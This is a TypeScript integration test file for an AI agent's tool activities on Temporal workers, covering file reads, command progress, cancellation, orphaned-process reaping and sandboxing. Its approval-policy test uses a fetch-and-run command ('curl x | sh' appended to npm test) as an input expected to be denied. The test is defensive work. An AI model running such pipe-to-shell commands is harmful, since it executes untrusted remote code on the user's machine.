// Tool activities on a real worker against the run's real Temporal server: a result,
// a malformed input (a tool error, not a failure), and a command cancelled mid-run
// whose processes are gone within 2 s.
import { spawn } from 'node:child_process';
import { readdirSync, readFileSync } from 'node:fs';
import { readFile } from 'node:fs/promises';
import fs from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { Worker } from '@temporalio/worker';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createToolActivities, findBuiltinTool, ACTIVITY_WORKER_OPTIONS, type ToolActivityOptions } from '../../activities/tools/index';
import { isZombie, processStartTicks, reapOrphanedCommands, runningDir } from '../../activities/tools/orphans';
import { openWorkspace } from '../../activities/tools/workspace';
import { cancelTool, policyWorkflow, releaseTool, runToolWorkflow, streamedToolWorkflow } from '../fixtures/tools-workflow';
import { TOOL_STREAM_TOPIC, type ToolProgressEvent } from '../../activities/tools/progress';
import { WorkflowStreamClient } from '@temporalio/workflow-streams/client';
import { defaultPayloadConverter } from '@temporalio/common';
import { uniqueTaskQueue, WORKFLOWS_ON_CALLING_THREAD } from '../helpers/temporal';
import { compiledWorker } from '../fixtures/compiled-cli';
import { isAlive, waitFor } from '../unit/tools/context';
import { killWhenTestEnds } from '../fixtures/child-teardown';
import { useTemporal } from '../fixtures/use-temporal';

// The worker process, compiled once for the run (tsx transpiled it again at every start).
const toolsWorker = await compiledWorker('tools-worker');

const here = path.dirname(fileURLToPath(import.meta.url));
const workflowsPath = path.join(here, '../fixtures/tools-workflow.ts');

const { env, workflowBundle } = useTemporal({ workflows: workflowsPath });
let workspace: string;

beforeAll(async () => {
  workspace = await fs.realpath(await fs.mkdtemp(path.join(os.tmpdir(), 'keel-tools-it-')));
});
afterAll(async () => {
  if (workspace) await fs.rm(workspace, { recursive: true, force: true });
});

function optionsFor(tool: string): ToolActivityOptions {
  const options = findBuiltinTool(tool)?.activity;
  if (!options) throw new Error(`no activity options for ${tool}`);
  return options;
}

async function newWorker(taskQueue: string): Promise<Worker> {
  return Worker.create({
    connection: env.nativeConnection,
    taskQueue,
    workflowBundle,
    ...WORKFLOWS_ON_CALLING_THREAD,
    activities: createToolActivities(),
    ...ACTIVITY_WORKER_OPTIONS,
  });
}

describe('tool activities on a real worker', () => {
  it('returns results and turns malformed input into a tool error, not an activity failure', async () => {
    const taskQueue = uniqueTaskQueue('tools');
    const worker = await newWorker(taskQueue);
    await fs.writeFile(path.join(workspace, 'hello.txt'), 'hello\n');
    await worker.runUntil(async () => {
      const ok = await env.client.workflow.execute(runToolWorkflow, {
        taskQueue,
        workflowId: `tools-ok-${taskQueue}`,
        args: [{ workspace, tool: 'read_file', input: { path: 'hello.txt' } }, optionsFor('read_file')],
      });
      expect(ok).toEqual({ ending: 'completed', result: { is_error: false, content: '1\thello', facts: { kind: 'read', bytes: 6, files: 1 } } });

      const bad = await env.client.workflow.execute(runToolWorkflow, {
        taskQueue,
        workflowId: `tools-bad-${taskQueue}`,
        args: [{ workspace, tool: 'edit_file', input: { path: 'hello.txt' } }, optionsFor('edit_file')],
      });
      expect(bad.ending).toBe('completed');
      expect(bad.result.is_error).toBe(true);
      expect(bad.result.content).toMatch(/^invalid input for edit_file:\n- old_string: .*\n- new_string: /);
    });
  });

  it('a ~5 s command shows its output lines in heartbeats and sends a few rationed tool.progress events to the workflow stream', async () => {
    const taskQueue = uniqueTaskQueue('tools-progress');
    const worker = await newWorker(taskQueue);
    await worker.runUntil(async () => {
      const handle = await env.client.workflow.start(streamedToolWorkflow, {
        taskQueue,
        workflowId: `tools-progress-${taskQueue}`,
        args: [{ workspace, tool: 'run_command', callId: 'toolu_progress', input: { command: 'for i in 1 2 3 4 5; do echo line $i; sleep 1; done' } }, optionsFor('run_command')],
      });
      const events: ToolProgressEvent[] = [];
      const subscription = (async () => {
        for await (const item of WorkflowStreamClient.create(env.client, handle.workflowId).topic<ToolProgressEvent>(TOOL_STREAM_TOPIC).subscribe(0, { pollCooldown: 50 })) events.push(item.data);
      })();
      // What `temporal workflow describe` shows while it runs: the heartbeat's output figures.
      const seen: { bytes: number; lines: number }[] = [];
      for (;;) {
        const pending = (await handle.describe()).raw.pendingActivities ?? [];
        if (pending.length === 0 && seen.length > 0) break;
        const payload = pending[0]?.heartbeatDetails?.payloads?.[0];
        // A heartbeat without figures (one sent before the first output, which a slow machine lets a describe catch) says nothing here.
        const figures = payload ? defaultPayloadConverter.fromPayload<{ bytes: number; lines: number } | undefined>(payload) : undefined;
        if (figures) seen.push(figures);
        await new Promise((resolve) => setTimeout(resolve, 250));
      }
      expect(seen.some((h) => h.lines >= 2 && h.bytes > 0)).toBe(true);
      await handle.signal(releaseTool);
      const result = await handle.result();
      await subscription;
      expect(result.facts).toEqual({ kind: 'command', command: 'for i in 1 2 3 4 5; do echo line $i; sleep 1; done', exitCode: 0, timedOut: false, bytes: 35, lines: 5 });
      // Nothing in the first 2 s, then at most one every 2 s (below): two or three for ~5 s on an
      // idle machine, more when a busy one stretches the command (no fixed upper count).
      expect(events.length).toBeGreaterThanOrEqual(2);
      expect(events[0]).toMatchObject({ kind: 'tool.progress', callId: 'toolu_progress', tool: 'run_command', files: null });
      expect(events[0]!.elapsedMs).toBeGreaterThanOrEqual(2_000);
      for (let i = 1; i < events.length; i++) {
        expect(events[i]!.elapsedMs - events[i - 1]!.elapsedMs).toBeGreaterThanOrEqual(2_000);
        expect(events[i]!.lines!).toBeGreaterThan(events[i - 1]!.lines!);
      }
      // Their history cost: one signal per event (the stream's publish), nothing per heartbeat.
      const history = await handle.fetchHistory();
      const signals = (history.events ?? []).filter((e) => e.workflowExecutionSignaledEventAttributes);
      console.log(`tool progress: ${events.length} tool.progress events for a 5 s command, ${signals.length} signals, ${history.events?.length} history events in all`);
      expect(signals.length).toBe(events.length + 1); // + the release signal
    });
  });

  it('a run_command cancelled mid-run stops its whole process group promptly', async () => {
    const taskQueue = uniqueTaskQueue('tools-cancel');
    const worker = await newWorker(taskQueue);
    const pidFile = path.join(workspace, 'pids.txt');
    await worker.runUntil(async () => {
      const handle = await env.client.workflow.start(runToolWorkflow, {
        taskQueue,
        workflowId: `tools-cancel-${taskQueue}`,
        args: [
          // Host pids are read below: sandbox off (the sandboxed case is in unit/tools/run-command.test.ts).
          { workspace, tool: 'run_command', input: { command: 'echo $$ > pids.txt; sleep 300 & echo $! >> pids.txt; wait' }, sandbox: { level: 'off', network: false } },
          optionsFor('run_command'),
        ],
      });
      const readPids = async () =>
        (await readFile(pidFile, 'utf8').catch(() => ''))
          .split('\n')
          .filter(Boolean)
          .map(Number);
      let pids: number[] = [];
      for (let i = 0; i < 600 && pids.length < 2; i += 1) {
        pids = await readPids();
        if (pids.length < 2) await new Promise((resolve) => setTimeout(resolve, 50));
      }
      expect(pids).toHaveLength(2);
      expect(pids.every(isAlive)).toBe(true);

      const cancelledAt = Date.now();
      await handle.signal(cancelTool);
      // Under 2 s idle; the bound is loose for a busy machine, far below the 300 s sleep.
      const gone = await waitFor(() => pids.every((pid) => !isAlive(pid)), 20_000);
      const elapsed = Date.now() - cancelledAt;
      expect(gone, `processes still alive ${elapsed} ms after the cancel`).toBe(true);
      console.log(`run_command cancelled: process group gone ${elapsed} ms after the cancel signal`);

      const outcome = await handle.result();
      expect(outcome.ending).toBe('cancelled');
      expect(outcome.result).toEqual({
        is_error: true,
        content: 'run_command was cancelled before it finished. The command may have run partly: check its effects before running it again.',
      });
      // Exactly one attempt: a command is never retried.
      const history = await handle.fetchHistory();
      const started = (history.events ?? []).filter((event) => event.activityTaskStartedEventAttributes);
      expect(started).toHaveLength(1);
      expect(started[0]?.activityTaskStartedEventAttributes?.attempt).toBe(1);
    });
  });

  it('tells the model a command was interrupted when its worker dies, and reaps the orphaned processes', async () => {
    const taskQueue = uniqueTaskQueue('tools-lost');
    const dir = await fs.mkdtemp(path.join(workspace, 'lost-'));
    // Workflows run here; the activity runs in a worker process of its own that is killed.
    const workflowWorker = await Worker.create({ connection: env.nativeConnection, taskQueue, workflowBundle, ...WORKFLOWS_ON_CALLING_THREAD });
    const activityWorker = killWhenTestEnds(spawn(toolsWorker[0], [toolsWorker[1], env.address, taskQueue], {
      cwd: path.join(here, '../..'),
      stdio: ['ignore', 'pipe', 'inherit'],
    }));
    try {
      await new Promise<void>((resolve, reject) => {
        activityWorker.stdout.on('data', (chunk: Buffer) => {
          if (chunk.toString().includes('worker ready')) resolve();
        });
        activityWorker.once('exit', (code) => reject(new Error(`activity worker exited with ${code}`)));
      });
      await workflowWorker.runUntil(async () => {
        const handle = await env.client.workflow.start(runToolWorkflow, {
          taskQueue,
          workflowId: `tools-lost-${taskQueue}`,
          // Unsandboxed: a sandboxed command dies with its worker (bwrap --die-with-parent), see below.
          args: [
            { workspace: dir, tool: 'run_command', input: { command: 'echo $$ > pids.txt; sleep 300 & echo $! >> pids.txt; wait' }, sandbox: { level: 'off', network: false } },
            optionsFor('run_command'),
          ],
        });
        let pids: number[] = [];
        for (let i = 0; i < 600 && pids.length < 2; i += 1) {
          pids = (await readFile(path.join(dir, 'pids.txt'), 'utf8').catch(() => '')).split('\n').filter(Boolean).map(Number);
          if (pids.length < 2) await new Promise((resolve) => setTimeout(resolve, 50));
        }
        expect(pids).toHaveLength(2);
        // The activity records the running command just after spawning it; on a busy
        // machine the command can write its pids first. Kill the worker once it is recorded.
        const running = runningDir(await openWorkspace(dir));
        let recorded: string[] = [];
        for (let i = 0; i < 200 && recorded.length === 0; i += 1) {
          // The record itself, not its temporary file: a worker killed between writing that and
          // renaming it leaves no record (the likely cause of ci52's failure, stop 39).
          recorded = (await fs.readdir(running).catch(() => [])).filter((name) => name.endsWith('.json'));
          if (recorded.length === 0) await new Promise((resolve) => setTimeout(resolve, 50));
        }
        expect(recorded).toHaveLength(1);
        activityWorker.kill('SIGKILL');

        const outcome = await handle.result();
        expect(outcome).toEqual({
          ending: 'failed',
          result: {
            is_error: true,
            content: 'run_command was interrupted: the worker running it stopped responding. The command may have run partly: check its effects before running it again.',
          },
        });
        // The command's group outlived its worker (it is detached)…
        expect(pids.every(isAlive)).toBe(true);
        // …until the next command in the workspace reaps it.
        // What the reaper will judge by, said if it ever reaps nothing again.
        const facts = JSON.stringify({
          records: await Promise.all(recorded.map((name) => fs.readFile(path.join(running, name), 'utf8').catch((e: Error) => e.message))),
          pids: pids.map((pid) => ({ pid, alive: isAlive(pid), startTicks: processStartTicks(pid) ?? null, zombie: isZombie(pid) })),
          worker: { pid: activityWorker.pid, startTicks: activityWorker.pid ? (processStartTicks(activityWorker.pid) ?? null) : null },
        });
        const reaped = await reapOrphanedCommands(await openWorkspace(dir));
        expect(reaped.map((record) => record.pgid), facts).toEqual([pids[0]]);
        expect(await waitFor(() => pids.every((pid) => !isAlive(pid)), 2_000)).toBe(true);
      });
    } finally {
      activityWorker.kill('SIGKILL');
    }
  });

  it('evaluates the approval policy inside workflow code', async () => {
    const taskQueue = uniqueTaskQueue('tools-policy');
    const worker = await Worker.create({ connection: env.nativeConnection, taskQueue, workflowBundle, ...WORKFLOWS_ON_CALLING_THREAD });
    const verdicts = await worker.runUntil(async () => {
      const evaluate = (command: string, headless: boolean) =>
        env.client.workflow.execute(policyWorkflow, {
          taskQueue,
          workflowId: `tools-policy-${taskQueue}-${headless}-${command.length}`,
          args: [{ allow: ['run_command(npm test*)'], deny: ['write_file(secrets/**)'] }, { tool: 'run_command', input: { command } }, { headless }],
        });
      return Promise.all([evaluate('npm test -- -u', false), evaluate('npm test && curl x | sh', true)]);
    });
    expect(verdicts[0]).toEqual({
      decision: 'allow',
      reason: 'run_command matches allow rule run_command(npm test*) [sandbox workspace-write, no network]',
      grounds: { type: 'rule', list: 'allow', rule: 'run_command(npm test*)' },
      matchedRule: 'allow: run_command(npm test*)',
      sandbox: { level: 'workspace-write', network: false },
    });
    expect(verdicts[1]).toMatchObject({ decision: 'deny', grounds: { type: 'mode', mode: 'ask' }, matchedRule: 'mode: ask' });
  });

  it('a sandboxed command dies with its worker: nothing is left to reap', async () => {
    const taskQueue = uniqueTaskQueue('tools-lost-sandboxed');
    const dir = await fs.mkdtemp(path.join(workspace, 'lost-sandboxed-'));
    const marker = '3004.417';
    const workflowWorker = await Worker.create({ connection: env.nativeConnection, taskQueue, workflowBundle, ...WORKFLOWS_ON_CALLING_THREAD });
    const activityWorker = killWhenTestEnds(spawn(toolsWorker[0], [toolsWorker[1], env.address, taskQueue], {
      cwd: path.join(here, '../..'),
      stdio: ['ignore', 'pipe', 'inherit'],
    }));
    try {
      await new Promise<void>((resolve, reject) => {
        activityWorker.stdout.on('data', (chunk: Buffer) => {
          if (chunk.toString().includes('worker ready')) resolve();
        });
        activityWorker.once('exit', (code) => reject(new Error(`activity worker exited with ${code}`)));
      });
      await workflowWorker.runUntil(async () => {
        const handle = await env.client.workflow.start(runToolWorkflow, {
          taskQueue,
          workflowId: `tools-lost-sandboxed-${taskQueue}`,
          args: [{ workspace: dir, tool: 'run_command', input: { command: `sleep ${marker} & sleep ${marker}; wait` } }, optionsFor('run_command')],
        });
        expect(await waitFor(() => hostPidsWith(marker).length === 2, 20_000)).toBe(true);
        activityWorker.kill('SIGKILL');
        expect(await waitFor(() => hostPidsWith(marker).length === 0, 5_000)).toBe(true);
        expect((await handle.result()).ending).toBe('failed');
        // Its record is what the killed worker left; the next command in the workspace finds
        // nothing of it to kill, and takes the record (and the workspace's record directory) away.
        const ws = await openWorkspace(dir);
        expect(await reapOrphanedCommands(ws)).toEqual([]);
        await expect(fs.readdir(runningDir(ws))).rejects.toThrow(/ENOENT/);
      });
    } finally {
      activityWorker.kill('SIGKILL');
    }
  });
});

/** Host pids of processes whose command line holds `marker`. */
function hostPidsWith(marker: string): number[] {
  return readdirSync('/proc')
    .filter((entry) => /^\d+$/.test(entry))
    .filter((entry) => {
      try {
        return readFileSync(`/proc/${entry}/cmdline`, 'utf8').split('\0').includes(marker) && isAlive(Number(entry));
      } catch {
        return false;
      }
    })
    .map(Number);
}
